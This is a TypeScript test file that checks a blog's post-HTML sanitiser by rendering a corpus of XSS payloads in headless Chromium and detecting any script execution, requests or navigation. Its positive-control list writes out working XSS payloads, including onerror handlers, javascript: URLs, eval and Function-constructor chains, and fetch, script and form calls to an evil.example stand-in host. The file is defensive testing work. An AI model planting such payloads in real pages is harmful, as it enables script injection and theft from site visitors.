// @vitest-environment node
/**
 * Every payload of the XSS corpus, sanitised as a post body and as an excerpt, rendered in real Chromium with no
 * Content-Security-Policy, through both ways post HTML reaches a visitor:
 * - the server path: the sanitiser running in Node on a jsdom window (loadPostSanitizer under SSR, as the
 *   pre-renderer runs it), its output written into the page's markup and parsed by Chromium;
 * - the in-browser path: the same module bundled by Vite as a client build and run in Chromium on the payloads
 *   (testing/vitest/xss/browser-sanitizer-entry.ts), its output inserted with innerHTML.
 * Execution is detected (testing/vitest/xss/in-page.ts, test-side listeners): dialogs, the canary, code from strings, window.open,
 * popups, navigation, and every request other than the test page's own that the kept markup does not explain
 * (an <img> may load its image, an allowed player its page). Handlers that need a visitor are fired, and every
 * element is focused and clicked. The live DOM is scanned for anything executable or un-prefixed that survived.
 * The positive controls (known executing payloads, and the raw corpus) must fire, or the detector proves nothing.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { chromium, type Browser, type BrowserContext, type CDPSession, type Page } from '@playwright/test';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../../scripts/dev/chromium.ts';
import { isWordPressClass, type PostHtmlSanitizer } from '../../src/features/posts/sanitize-post-html.ts';
import { ALLOWED_IFRAME_HOSTS } from '../../src/features/posts/video-embed-hosts.ts';
import { XSS_CANARY, XSS_CORPUS, type XssPayload } from '../../src/features/posts/xss-corpus.ts';
import {
  BUNDLE_PATH,
  HARNESS_ATTRIBUTE,
  HARNESS_ORIGIN,
  INSERTED_ATTRIBUTE,
  POSTS_ELEMENT_ID,
  browserPage,
  serverPage,
  type RenderProfile,
} from '../../testing/vitest/xss/harness-page.ts';
import {
  REPORT_BINDING,
  activatePosts,
  instrumentPage,
  isContainerScanList,
  scanPosts,
  settle,
  whenDocumentAttributeSet,
  type ContainerScan,
} from '../../testing/vitest/xss/in-page.ts';

const PROJECT_ROOT = resolve(import.meta.dirname, '../..');
const ENTRY = join(import.meta.dirname, '../../testing/vitest/xss/browser-sanitizer-entry.ts');
const REPORT_FILE = join(PROJECT_ROOT, 'reports', 'xss-browser.json');
/** Payloads per page: few pages keep the run short; a page that executes anything is searched by halving. */
const BATCH_SIZE = 100;
/** Generous: each test opens 10 to 30 pages, about a second each on a busy two-core machine; a failure adds the halving. */
const SUITE_TIMEOUT_MS = 240_000;

type RenderPath = 'server' | 'browser';
const PATHS: readonly RenderPath[] = ['server', 'browser'];
const SANITISED_PROFILES = ['content', 'excerpt'] as const;

interface Execution {
  readonly channel: string;
  readonly detail: string;
}

interface PageRun {
  readonly executions: readonly Execution[];
  readonly scans: readonly ContainerScan[];
  /** Images and player pages the kept markup loaded: allowed, counted for the report. */
  readonly explainedLoads: number;
}

interface RecordedRequest {
  readonly url: string;
  readonly resourceType: string;
  readonly isMainFrameNavigation: boolean;
  readonly isSubframe: boolean;
}

let browser: Browser | undefined;
let context: BrowserContext;
let serverSanitizer: PostHtmlSanitizer;
/** What the harness origin serves, by path: the bundle, and each page while it is open. */
const ownResponses = new Map<string, { readonly body: string; readonly contentType: string }>();
const executionsByPage = new Map<Page, Execution[]>();
const requestsByPage = new Map<Page, RecordedRequest[]>();
/** Called when a page's main frame starts to leave the test page: its in-page steps would never finish. */
const leaveListeners = new Map<Page, (url: string) => void>();
let pageCount = 0;

async function bundleSanitizer(): Promise<string> {
  const result = await build({
    configFile: false,
    root: PROJECT_ROOT,
    logLevel: 'silent',
    build: {
      write: false,
      minify: false,
      copyPublicDir: false,
      target: 'es2022',
      lib: { entry: ENTRY, formats: ['iife'], name: 'xssCheckSanitizer', fileName: () => 'sanitizer.js' },
    },
  });
  for (const output of Array.isArray(result) ? result : [result]) {
    if (!('output' in output)) continue;
    for (const item of output.output) if (item.type === 'chunk' && item.isEntry) return item.code;
  }
  throw new Error('Vite produced no bundle for the sanitiser.');
}

beforeAll(async () => {
  vi.stubEnv('SSR', true);
  const { loadPostSanitizer } = await import('../../src/features/posts/sanitize-post-html.ts');
  serverSanitizer = await loadPostSanitizer();
  ownResponses.set(BUNDLE_PATH, { body: await bundleSanitizer(), contentType: 'text/javascript' });

  browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS });
  context = await browser.newContext();
  await context.exposeBinding(REPORT_BINDING, ({ page }, channel: unknown, detail: unknown) => {
    executionsByPage.get(page)?.push({ channel: String(channel), detail: String(detail) });
  });
  await context.addInitScript(instrumentPage, { reportBinding: REPORT_BINDING, canaryName: XSS_CANARY });
  await context.route('**/*', async (route, request) => {
    const url = new URL(request.url());
    const own = url.origin === HARNESS_ORIGIN ? ownResponses.get(url.pathname) : undefined;
    if (own !== undefined) {
      await route.fulfill({ status: 200, contentType: own.contentType, body: own.body });
      return;
    }
    const frame = request.frame();
    const page = frame.page();
    const isMainFrameNavigation = request.isNavigationRequest() && frame === page.mainFrame();
    requestsByPage.get(page)?.push({ url: request.url(), resourceType: request.resourceType(), isMainFrameNavigation, isSubframe: frame !== page.mainFrame() });
    if (isMainFrameNavigation) leaveListeners.get(page)?.(request.url());
    await route.abort('blockedbyclient');
  });
}, SUITE_TIMEOUT_MS);

afterAll(async () => {
  vi.unstubAllEnvs();
  await browser?.close();
});

/**
 * Runs one of in-page.ts's functions in the page's main world through the DevTools protocol: Playwright's own
 * page.evaluate would call the page's eval, which the instrumentation reports as an execution.
 */
async function inPage<Argument>(session: CDPSession, run: (argument: Argument) => unknown, argument: Argument): Promise<unknown> {
  const { result, exceptionDetails } = await session.send('Runtime.evaluate', {
    expression: `(${run.toString()})(${JSON.stringify(argument)})`,
    awaitPromise: true,
    returnByValue: true,
  });
  if (exceptionDetails !== undefined) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
  const value: unknown = result.value;
  return value;
}

function pageHtml(path: RenderPath, profile: RenderProfile, htmls: readonly string[]): string {
  if (path === 'browser') return browserPage({ profile, payloads: htmls });
  if (profile === 'raw') return serverPage(htmls);
  return serverPage(htmls.map((html) => (profile === 'content' ? serverSanitizer.sanitizeContent(html) : serverSanitizer.sanitizeExcerpt(html))));
}

/** Opens one page of payloads, lets it run, acts on it as a visitor would, and collects what it did. */
async function runPage(path: RenderPath, profile: RenderProfile, htmls: readonly string[]): Promise<PageRun> {
  pageCount += 1;
  const pagePath = `/${path}/${String(pageCount)}`;
  const pageUrl = `${HARNESS_ORIGIN}${pagePath}`;
  ownResponses.set(pagePath, { body: pageHtml(path, profile, htmls), contentType: 'text/html' });
  const page = await context.newPage();
  const executions: Execution[] = [];
  const requests: RecordedRequest[] = [];
  executionsByPage.set(page, executions);
  requestsByPage.set(page, requests);
  page.on('dialog', (dialog) => {
    executions.push({ channel: 'native dialog', detail: `${dialog.type()}: ${dialog.message()}` });
    void dialog.dismiss();
  });
  page.on('popup', (popup) => {
    executions.push({ channel: 'popup', detail: popup.url() });
    void popup.close();
  });
  // Each in-page step races the page leaving: a navigated page never answers, and there is no clock to give up on.
  const leaving = new Promise<never>((_, reject) => {
    leaveListeners.set(page, (url) => reject(new Error(`the page left for ${url}`)));
  });
  leaving.catch(() => undefined);
  const step = <Result>(promise: Promise<Result>) => Promise.race([promise, leaving]);
  page.on('framenavigated', (frame) => {
    if (frame !== page.mainFrame() || frame.url() === pageUrl) return;
    executions.push({ channel: 'navigation', detail: frame.url() });
    leaveListeners.get(page)?.(frame.url());
  });
  let scans: ContainerScan[] = [];
  try {
    await step(page.goto(pageUrl, { waitUntil: 'load' }));
    const session = await context.newCDPSession(page);
    if (path === 'browser') {
      const inserted = await step(inPage(session, whenDocumentAttributeSet, INSERTED_ATTRIBUTE));
      if (inserted !== 'done') throw new Error(`The bundled sanitiser did not run: ${String(inserted)}`);
    }
    await step(inPage(session, settle, null));
    await step(inPage(session, activatePosts, POSTS_ELEMENT_ID));
    await step(inPage(session, settle, null));
    const scanned = await step(
      inPage(session, scanPosts, { postsElementId: POSTS_ELEMENT_ID, harnessAttribute: HARNESS_ATTRIBUTE, embedHosts: [...ALLOWED_IFRAME_HOSTS] }),
    );
    if (!isContainerScanList(scanned)) throw new Error(`The DOM scan returned ${JSON.stringify(scanned)}`);
    scans = scanned;
  } catch (error) {
    // A payload that navigates the page away takes the page's scripts with it; the navigation is already recorded.
    executions.push({ channel: 'page lost', detail: error instanceof Error ? (error.message.split('\n')[0] ?? '') : String(error) });
  } finally {
    await page.close();
    ownResponses.delete(pagePath);
    executionsByPage.delete(page);
    requestsByPage.delete(page);
    leaveListeners.delete(page);
  }
  const loadable = new Set(scans.flatMap(({ resourceUrls }) => resourceUrls));
  let explainedLoads = 0;
  for (const request of requests) {
    const isExplained = loadable.has(request.url) && (request.resourceType === 'image' || (request.resourceType === 'document' && request.isSubframe));
    if (isExplained) explainedLoads += 1;
    else executions.push({ channel: request.isMainFrameNavigation ? 'navigation' : 'request', detail: `${request.resourceType} ${request.url}` });
  }
  return { executions, scans, explainedLoads };
}

/** What a container of sanitised output must never hold: the DOM scan's findings, and classes not WordPress's own. */
const containerProblems = ({ problems, classNames }: ContainerScan) => [
  ...problems,
  ...classNames.filter((name) => !isWordPressClass(name)).map((name) => `class "${name}"`),
];

/** What no sanitised page may do or show as a whole: any execution, and markup outside every container. */
const pageProblems = (run: PageRun) => [
  ...run.executions.map(({ channel, detail }) => `${channel}: ${detail}`),
  ...run.scans.filter(({ payload }) => payload < 0).flatMap(({ problems }) => problems),
];

const batches = <T>(items: readonly T[]) =>
  Array.from({ length: Math.ceil(items.length / BATCH_SIZE) }, (_, index) => items.slice(index * BATCH_SIZE, (index + 1) * BATCH_SIZE));

/** Enough names to act on: a broken sanitiser would otherwise spend minutes naming every payload it lets through. */
const MAX_NAMED_EXECUTIONS = 8;

/**
 * Names the payloads of a batch that execute (or escape their container) on their own, by halving: a page of
 * payloads that does nothing clears all of them at once.
 */
async function executingPayloads(path: RenderPath, profile: RenderProfile, payloads: readonly XssPayload[], found: Map<string, string[]>): Promise<void> {
  if (payloads.length === 0 || found.size >= MAX_NAMED_EXECUTIONS) return;
  const problems = pageProblems(
    await runPage(
      path,
      profile,
      payloads.map(({ html }) => html),
    ),
  );
  if (problems.length === 0) return;
  const [only] = payloads;
  if (payloads.length === 1 && only !== undefined) {
    found.set(only.name, problems);
    return;
  }
  const half = Math.ceil(payloads.length / 2);
  await executingPayloads(path, profile, payloads.slice(0, half), found);
  await executingPayloads(path, profile, payloads.slice(half), found);
}

interface SanitisedRun {
  /** "<path>/<profile>: <payload>: <problem>" for every payload that ran or left something behind. */
  readonly failures: string[];
  readonly failedPayloads: ReadonlySet<string>;
  readonly explainedLoads: number;
}

/**
 * Renders the corpus in batches. What the DOM scan finds is named by its container; a page that executed
 * something is searched by halving for the payloads responsible.
 */
async function runSanitised(path: RenderPath, profile: 'content' | 'excerpt'): Promise<SanitisedRun> {
  const problemsByPayload = new Map<string, string[]>();
  let explainedLoads = 0;
  for (const batch of batches(XSS_CORPUS)) {
    const run = await runPage(
      path,
      profile,
      batch.map(({ html }) => html),
    );
    explainedLoads += run.explainedLoads;
    for (const scan of run.scans) {
      const payload = batch[scan.payload];
      const problems = containerProblems(scan);
      if (payload !== undefined && problems.length > 0) problemsByPayload.set(payload.name, problems);
    }
    if (pageProblems(run).length === 0) continue;
    const executing = new Map<string, string[]>();
    await executingPayloads(path, profile, batch, executing);
    if (executing.size === 0) problemsByPayload.set('(the batch only, not a single payload)', pageProblems(run));
    for (const [name, problems] of executing) problemsByPayload.set(name, [...(problemsByPayload.get(name) ?? []), ...problems]);
  }
  const failures = [...problemsByPayload].flatMap(([name, problems]) => problems.map((problem) => `${path}/${profile}: ${name}: ${problem}`));
  return { failures, failedPayloads: new Set(problemsByPayload.keys()), explainedLoads };
}

/**
 * Payloads known to execute when nothing sanitises them, each through one detection channel: if one of these
 * goes unnoticed, the detector is broken and "0 executed" would mean nothing.
 */
const POSITIVE_CONTROLS: readonly (XssPayload & { readonly channel: string; readonly paths: readonly RenderPath[] })[] = [
  { name: 'alert from an image error', html: '<img src="x" onerror="alert(1)">', channel: 'dialog', paths: PATHS },
  { name: 'confirm from an svg load', html: '<svg onload="confirm(1)"></svg>', channel: 'dialog', paths: ['server'] },
  { name: 'print from a details toggle', html: '<details open ontoggle="print()"><summary>x</summary></details>', channel: 'dialog', paths: PATHS },
  { name: 'the canary from an inline script', html: `<script>${XSS_CANARY}()</script>`, channel: 'canary', paths: ['server'] },
  { name: 'the canary from a hover handler', html: `<p onmouseover="${XSS_CANARY}()">Hover</p>`, channel: 'canary', paths: PATHS },
  { name: 'the canary from a clicked script URL', html: `<a href="javascript:${XSS_CANARY}()">Open</a>`, channel: 'canary', paths: PATHS },
  { name: 'eval of a string', html: `<img src="x" onerror="eval('${XSS_CANARY}()')">`, channel: 'eval', paths: PATHS },
  {
    name: 'the Function constructor chain',
    html: `<img src="x" onerror="[].constructor.constructor('${XSS_CANARY}()')()">`,
    channel: 'Function',
    paths: PATHS,
  },
  { name: 'setTimeout with a string', html: `<img src="x" onerror="setTimeout('${XSS_CANARY}()')">`, channel: 'setTimeout', paths: PATHS },
  { name: 'setInterval with a string', html: `<img src="x" onerror="setInterval('${XSS_CANARY}()', 1000)">`, channel: 'setInterval', paths: PATHS },
  // window.open, spelt out: in an inline handler a bare open() is document.open().
  { name: 'window.open', html: '<img src="x" onerror="window.open(\'https://evil.example/\')">', channel: 'window.open', paths: PATHS },
  { name: 'fetch to another site', html: '<img src="x" onerror="fetch(\'https://evil.example/f\')">', channel: 'request', paths: PATHS },
  { name: 'external script', html: '<script src="https://evil.example/x.js"></script>', channel: 'request', paths: ['server'] },
  { name: 'CSS background request', html: '<p style="background:url(https://evil.example/bg.png)">x</p>', channel: 'request', paths: PATHS },
  { name: 'navigation by location', html: '<img src="x" onerror="location.href=\'https://evil.example/\'">', channel: 'navigation', paths: PATHS },
  { name: 'form submitted by a click', html: '<form action="https://evil.example/f"><button>Send</button></form>', channel: 'navigation', paths: PATHS },
];

/** The figures this suite reports, printed and written to reports/xss-browser.json for the test summary. */
const figures = {
  payloads: XSS_CORPUS.length,
  /** Payloads that executed, or left executable or page-reaching markup, in any of their renders. */
  payloadsExecutedOrLeftMarkup: null as number | null,
  renders: 0,
  explainedLoads: 0,
  controlsDetected: 0,
  controls: 0,
  rawBatchesFiring: 0,
  rawBatches: 0,
};

describe('the XSS corpus in real Chromium, without a Content-Security-Policy', () => {
  it(
    'the detector fires on every known executing payload, through both paths, when nothing sanitises it',
    async () => {
      const missed: string[] = [];
      for (const control of POSITIVE_CONTROLS) {
        for (const path of control.paths) {
          const run = await runPage(path, 'raw', [control.html]);
          figures.controls += 1;
          if (run.executions.some(({ channel }) => channel === control.channel)) figures.controlsDetected += 1;
          else missed.push(`${path}: ${control.name} (saw ${JSON.stringify(run.executions)})`);
        }
      }
      expect(missed).toEqual([]);
    },
    SUITE_TIMEOUT_MS,
  );

  it(
    'the raw corpus, unsanitised, executes in every batch on both paths',
    async () => {
      const quiet: string[] = [];
      for (const path of PATHS) {
        for (const [index, batch] of batches(XSS_CORPUS).entries()) {
          const run = await runPage(
            path,
            'raw',
            batch.map(({ html }) => html),
          );
          figures.rawBatches += 1;
          if (run.executions.length > 0) figures.rawBatchesFiring += 1;
          else quiet.push(`${path} batch ${String(index)}`);
        }
      }
      expect(quiet).toEqual([]);
    },
    SUITE_TIMEOUT_MS,
  );

  it(
    'no payload executes or leaves anything executable, sanitised as a body or an excerpt, on the server path or in the browser',
    async () => {
      const failures: string[] = [];
      const failedPayloads = new Set<string>();
      for (const path of PATHS) {
        for (const profile of SANITISED_PROFILES) {
          const run = await runSanitised(path, profile);
          failures.push(...run.failures);
          for (const name of run.failedPayloads) failedPayloads.add(name);
          figures.renders += XSS_CORPUS.length;
          figures.explainedLoads += run.explainedLoads;
        }
      }
      figures.payloadsExecutedOrLeftMarkup = failedPayloads.size;
      expect(failures).toEqual([]);
    },
    SUITE_TIMEOUT_MS,
  );
});

afterAll(() => {
  const summary =
    `xss: ${figures.payloadsExecutedOrLeftMarkup === null ? 'not measured (the run stopped early): ?' : String(figures.payloadsExecutedOrLeftMarkup)} ` +
    `of ${String(figures.payloads)} payloads executed in Chromium without CSP ` +
    `(${String(figures.renders)} renders: body and excerpt, server and browser path); ` +
    `positive controls detected ${String(figures.controlsDetected)} of ${String(figures.controls)}; ` +
    `raw corpus fired in ${String(figures.rawBatchesFiring)} of ${String(figures.rawBatches)} batches; ` +
    `${String(figures.explainedLoads)} image loads the kept markup asked for`;
  console.log(summary);
  mkdirSync(join(PROJECT_ROOT, 'reports'), { recursive: true });
  writeFileSync(REPORT_FILE, `${JSON.stringify({ ...figures, summary }, null, 2)}\n`);
});
